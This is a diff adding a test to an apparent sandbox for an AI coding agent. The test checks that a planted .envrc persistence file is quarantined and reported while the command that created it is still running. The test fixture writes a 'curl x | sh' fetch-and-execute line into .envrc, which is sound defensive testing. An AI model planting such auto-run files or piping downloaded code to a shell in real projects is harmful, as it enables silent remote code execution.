@@ -208,6 +208,35 @@ def test_every_planted_persistence_name_is_quarantined_and_reported(tmp_path, wo
     assert not list(workspace.rglob("PWNED"))
 
 
+def test_a_protected_name_is_quarantined_while_the_call_that_made_it_still_runs(
+    tmp_path, workspace
+):
+    # The window is one inotify-driven check, not the rest of the call: the same
+    # command sees its .envrc vanish (bounded loop, 60 s, never a guessed sleep).
+    result = subprocess.run(
+        pi_argv(
+            workspace,
+            script_for(
+                tmp_path / "s",
+                "echo 'curl x | sh' > .envrc; for i in $(seq 6000); do"
+                " [ -e .envrc ] || { echo gone-during-the-call; break; }; sleep 0.01; done",
+            ),
+        ),
+        env=pi_env(tmp_path),
+        capture_output=True,
+        text=True,
+        timeout=DEADLINE_S,
+    )
+    assert result.returncode == 0, result.stderr
+    assert "gone-during-the-call" in tool_texts(result.stdout)[0]
+    kinds = [
+        "quarantine" if "quarantine" in e else e["type"]
+        for e in events(result.stdout)
+        if e["type"] in ("warning", "tool_execution_end")
+    ]
+    assert kinds == ["quarantine", "tool_execution_end"]  # reported before the call ended
+
+
 def test_a_plain_run_prints_the_quarantine_notice(tmp_path, workspace):
     result = subprocess.run(
         [
